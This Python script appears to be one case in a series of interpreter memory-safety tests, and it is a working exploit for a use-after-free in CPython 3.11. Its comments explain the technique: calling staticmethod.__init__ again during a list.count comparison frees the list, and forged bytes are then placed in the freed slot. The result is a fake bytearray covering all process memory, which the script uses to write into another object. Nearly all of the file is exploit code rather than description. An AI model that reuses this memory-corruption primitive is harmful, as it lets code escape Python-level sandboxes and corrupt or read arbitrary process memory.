# family: wall (memory: staticmethod.__init__ run again from its own call frees the wrapped bound list.count)   goal: memory   interpreter: /usr/bin/python3
# A sibling of X116 (the fourteenth round's ok_06) of our own: 3.11's staticmethod is
# callable (sm_call), and it calls the callable it wraps borrowed; staticmethod.__init__
# may be called again on a live object and replaces it. sm wraps lst.count, the list's
# only holder; x.__eq__ (run by the count) re-initialises sm, which frees the bound
# method and the list; bytearray(15 bytes) takes the freed item array back as
# [0, fake], and list_count compares the fake: BA.__eq__ receives a bytearray over all
# memory. The wall: staticmethod is initialised once (init_once).
keep = []
W = lambda v: v.to_bytes(8, "little")
class BA(bytearray):
    def __eq__(self, other):
        keep.append(self)              # self: the fake bytearray over all memory
        return False
FAKEOBJ = W(1 << 40) + W(id(BA)) + W(1 << 62) + W(1 << 62) + W(0) + W(0) + W(1)
h1 = bytes(FAKEOBJ)                    # the fake bytearray: data at id(h1) + 32
ITEMS = (W(0) + W(id(h1) + 32))[:15]   # bytearray(15 bytes) -> a 16-byte buffer: the freed ob_item
def refill():
    k1 = bytearray(ITEMS); k2 = bytearray(ITEMS); k3 = bytearray(ITEMS); k4 = bytearray(ITEMS)
    keep.extend((k1, k2, k3, k4))
class X:
    def __eq__(self, other):
        sm.__init__(None)                         # drops the bound list.count, then its list (ob_item freed)
        refill()
        return False
x, y = X(), X()
lst = [x, y]
sm = staticmethod(lst.count)
del lst
try:
    print("sm(0) ->", sm(0))           # sm_call: list_count(lst, 0) with lst.count borrowed
except Exception as e:
    print("call:", type(e).__name__, e)
found = [k for k in keep if type(k) is BA]
if found:
    mem = found[0]
    print(type(mem).__name__, "of", hex(len(mem)), "bytes at address 0", flush=True)
    target = bytearray(b"AAAAAAAA")    # another object's memory, written through the fake
    start = int.from_bytes(mem[id(target) + 40:id(target) + 48], "little")   # its ob_start
    mem[start] = 0x42
    if target[0] == 0x42:
        print("MEMORY-OVERWRITTEN", bytes(target))
